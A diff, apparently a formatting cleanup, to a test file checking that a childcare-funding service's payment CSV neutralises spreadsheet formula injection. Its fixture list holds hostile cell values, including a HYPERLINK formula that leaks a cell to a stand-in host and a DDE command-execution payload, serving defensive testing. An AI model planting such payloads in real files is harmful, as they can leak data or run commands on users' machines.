@@ -15,7 +15,7 @@ import { ok } from './registry/helpers.js';
 
 const HOSTILE = [
   { code: '=1+1', name: '=HYPERLINK("http://example.invalid/?leak="&A1,"Klik her")' },
-  { code: '+1+1', name: '+cmd|\' /C calc\'!A0' },
+  { code: '+1+1', name: "+cmd|' /C calc'!A0" },
   { code: '-1+1', name: '-2+3' },
   { code: '@SUM(1+1)', name: '@SUM(A1:A9)' },
 ];
@@ -43,7 +43,10 @@ beforeAll(async () => {
     expect(created).toMatchObject(inst); // stored as sent: neutralising is the writer's job
     const child = ok(await t.call('POST', '/v1/children', { birth_date: '2019-03-15' }), 201).id;
     ok(await t.call('POST', '/v1/enrolments', { child, institution: inst.code, start: '2019-09-01', end: '2022-03-01' }), 201);
-    ok(await t.call('POST', '/v1/measurements', { child_id: child, kind: 'sprogvurdering', period: 'age-4', value: 'generel', measured_on: '2023-04-20' }), 201);
+    ok(
+      await t.call('POST', '/v1/measurements', { child_id: child, kind: 'sprogvurdering', period: 'age-4', value: 'generel', measured_on: '2023-04-20' }),
+      201,
+    );
   }
   await t.settled();
   ok(await t.call('POST', '/v1/awards/finalise', { fund_id: fund, reason: 'test: pay now' }));
@@ -54,13 +57,24 @@ beforeAll(async () => {
 afterAll(async () => t?.close());
 
 describe('CSV formula injection', () => {
-  it('the payment file neutralises the code and name of every institution with a leading `\'`; amounts stay numbers', async () => {
+  it("the payment file neutralises the code and name of every institution with a leading `'`; amounts stay numbers", async () => {
     const file = await t.call('GET', `/v1/payment-runs/${runId}/file`);
     expect(file.status).toBe(200);
     const [header, ...rows] = parseCsv(String(file.body));
     expect(header).toEqual([
-      'reference', 'fund_id', 'cutoff_on', 'institution_code', 'institution_name', 'amount_ore', 'amount_dkk', 'status',
-      'line_reference', 'payee_details_version', 'cvr', 'ean', 'account',
+      'reference',
+      'fund_id',
+      'cutoff_on',
+      'institution_code',
+      'institution_name',
+      'amount_ore',
+      'amount_dkk',
+      'status',
+      'line_reference',
+      'payee_details_version',
+      'cvr',
+      'ean',
+      'account',
     ]);
     expect(rows).toHaveLength(HOSTILE.length);
     const byCode = new Map(rows.map((r) => [r[3], r]));
@@ -81,7 +95,10 @@ describe('CSV formula injection', () => {
     expect(header).toEqual([...CSV_COLUMNS]);
     const amount = CSV_COLUMNS.indexOf('amount_ore');
     const memo = CSV_COLUMNS.indexOf('memo');
-    expect(rows.some((r) => r[amount]!.startsWith('-')), 'some debit').toBe(true);
+    expect(
+      rows.some((r) => r[amount]!.startsWith('-')),
+      'some debit',
+    ).toBe(true);
     for (const row of rows) {
       expect(row[amount]).toMatch(/^-?\d+$/);
       row.forEach((cell, i) => {
